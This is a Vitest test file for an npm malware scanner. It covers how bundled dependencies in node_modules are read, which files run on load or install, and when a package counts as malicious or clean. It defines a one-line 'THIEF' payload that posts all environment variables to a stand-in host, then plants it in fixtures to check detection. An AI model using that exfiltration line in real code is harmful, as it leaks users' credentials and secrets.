import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { scanDirectory, scanPackage } from '../src/index.js';
import { momentsOf } from '../src/package/graph.js';
import { triggersOf } from '../src/package/triggers.js';
import { readSource } from '../src/read/source.js';
import type { Package } from '../src/types.js';
import { cleanUp, plant } from './fixtures/read/plant.js';

cleanUp();

const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
const OUTER = { name: 'outer', version: '1.0.0', dependencies: { inner: '^1.0.0' } };
const BUNDLING = { ...OUTER, bundleDependencies: ['inner'] };
const INNER = { name: 'inner', version: '1.0.0' };

/** A package in memory with all these files. */
function packageOf(files: Record<string, string | object>): Package {
  const all = new Map(
    Object.entries(files).map(([path, of]) => [path, typeof of === 'string' ? of : JSON.stringify(of)]),
  );
  const manifest = files['package.json'] as Package['manifest'];
  const size = { files: all.size, bytes: 0 };
  return { name: 'outer', version: '1.0.0', path: 'x', manifest, files: all, size, skipped: [], dependencyPath: [] };
}

function momentsIn(files: Record<string, string | object>) {
  const pkg = packageOf(files);
  return momentsOf(pkg, triggersOf(pkg));
}

describe('of a folder’s own node_modules', () => {
  const modules = async (files: Record<string, string | object>): Promise<readonly string[]> => {
    const found = await readSource({ folder: plant(files) }, {});
    return [...found.files.keys()].filter(path => path.startsWith('node_modules/')).sort();
  };

  test('everything is the package’s where no package manager has installed it', async () => {
    expect(await modules({ 'package.json': OUTER, 'node_modules/inner/index.js': 'a()' })).toEqual([
      'node_modules/inner/index.js',
    ]);
  });

  test('what is bundled is, with what it depends on, wherever else was installed', async () => {
    const files = {
      'package.json': { ...OUTER, bundledDependencies: ['@s/inner'] },
      'node_modules/.package-lock.json': '{}',
      'node_modules/@s/inner/package.json': { ...INNER, dependencies: { deeper: '1' } },
      'node_modules/@s/other/index.js': '',
      'node_modules/deeper/index.js': '',
      'node_modules/else/index.js': '',
    };
    expect(await modules(files)).toEqual(['node_modules/@s/inner/package.json', 'node_modules/deeper/index.js']);
  });

  test('all that it depends on is, when all is bundled', async () => {
    const files = {
      'package.json': { ...OUTER, bundleDependencies: true },
      'package-lock.json': '{}',
      'node_modules/inner/index.js': '',
      'node_modules/else/index.js': '',
    };
    expect(await modules(files)).toEqual(['node_modules/inner/index.js']);
  });

  test.each([
    ['node_modules/.package-lock.json', 'npm'],
    ['node_modules/.modules.yaml', 'pnpm'],
    ['node_modules/.yarn-integrity', 'Yarn'],
    ['bun.lock', 'Bun'],
  ])('nothing is that somebody has installed: %s', async note => {
    const files = { 'package.json': OUTER, [note]: '{}', 'node_modules/inner/index.js': '' };
    expect(await modules(files)).toEqual([]);
    const { skipped } = await readSource({ folder: plant(files) }, {});
    expect(skipped).toMatchObject([{ path: 'node_modules', gap: 'modules-inside' }]);
  });

  test('nothing is of a package that is itself installed: its neighbours are scanned by themselves', async () => {
    const dir = plant({
      'node_modules/outer/package.json': BUNDLING,
      'node_modules/outer/node_modules/inner/a.js': '',
    });
    const { files } = await readSource({ folder: join(dir, 'node_modules/outer') }, {});
    expect([...files.keys()]).toEqual(['package.json']);
  });
});

describe('what is bundled', () => {
  test('runs when the package is loaded that names it, as Node finds it from there', () => {
    const moments = momentsIn({
      'package.json': { ...BUNDLING, main: 'index.js' },
      'index.js': `import { a } from 'inner';`,
      'node_modules/inner/package.json': { ...INNER, main: 'lib/main.js' },
      'node_modules/inner/lib/main.js': `require("@s/deeper/part")`,
      'node_modules/inner/lib/other.js': '',
      'node_modules/inner/node_modules/@s/deeper/package.json': { name: '@s/deeper' },
      'node_modules/inner/node_modules/@s/deeper/part.js': '',
      'node_modules/unnamed/package.json': { name: 'unnamed' },
      'node_modules/unnamed/index.js': '',
    });
    expect(moments.momentOf('node_modules/inner/lib/main.js')).toBe('import');
    expect(moments.momentOf('node_modules/inner/node_modules/@s/deeper/part.js')).toBe('import');
    expect(moments.momentOf('node_modules/inner/lib/other.js')).toBe('unreached');
    expect(moments.momentOf('node_modules/unnamed/index.js')).toBe('unreached');
  });

  test('begins where its exports say', () => {
    const moments = momentsIn({
      'package.json': { ...BUNDLING, main: 'index.js' },
      'index.js': `require('inner');`,
      'node_modules/inner/package.json': { ...INNER, exports: { '.': { import: './e.mjs', require: './e.cjs' } } },
      'node_modules/inner/e.mjs': '',
      'node_modules/inner/e.cjs': '',
    });
    expect(moments.momentOf('node_modules/inner/e.mjs')).toBe('import');
    expect(moments.momentOf('node_modules/inner/e.cjs')).toBe('import');
  });

  test('runs its own scripts on installation, and what its binding.gyp has run', () => {
    const moments = momentsIn({
      'package.json': BUNDLING,
      'index.js': '',
      'node_modules/inner/package.json': { ...INNER, scripts: { postinstall: 'node setup.js' } },
      'node_modules/inner/setup.js': '',
      'node_modules/native/package.json': { name: 'native' },
      'node_modules/native/binding.gyp': `{ "targets": [{ "target_name": "a", "sources": ["<!(node find.js)"] }] }`,
      'node_modules/native/find.js': '',
    });
    expect(moments.momentOf('node_modules/inner/setup.js')).toBe('install');
    expect(moments.momentOf('node_modules/native/find.js')).toBe('install');
  });

  test.each([
    ['when it is loaded', { 'node_modules/inner/index.js': THIEF }, INNER],
    [
      'by a script that it has run',
      { 'node_modules/inner/a.js': THIEF },
      { ...INNER, scripts: { preinstall: 'node a.js' } },
    ],
    [
      'deep inside',
      {
        'node_modules/inner/index.js': `require('far')`,
        'node_modules/far/package.json': '{"name":"far"}',
        'node_modules/far/index.js': THIEF,
      },
      { ...INNER, dependencies: { far: '1' } },
    ],
  ])('and steals, %s, makes the package malicious', async (_, files, inner) => {
    const all = {
      'package.json': BUNDLING,
      'index.js': `module.exports = require('inner');`,
      'node_modules/inner/package.json': inner,
      ...files,
    };
    expect((await scanDirectory(plant(all))).verdict).toBe('malicious');
  });

  test('and is an honest copy leaves it clean', async () => {
    const files = {
      'package.json': JSON.stringify({ ...BUNDLING, repository: 'pads/outer' }),
      'index.js': `module.exports = require('inner').pad;`,
      'node_modules/inner/package.json': JSON.stringify({ ...INNER, scripts: { install: 'node-gyp rebuild' } }),
      'node_modules/inner/index.js': `exports.pad = (text, size) => String(text).padStart(size);`,
      'node_modules/inner/binding.gyp': `{ "targets": [{ "target_name": "a", "sources": ["a.c"] }] }`,
      'node_modules/inner/a.c': 'int a;',
    };
    expect((await scanPackage({ files })).verdict).toBe('clean');
    expect((await scanDirectory(plant(files))).verdict).toBe('clean');
  });
});
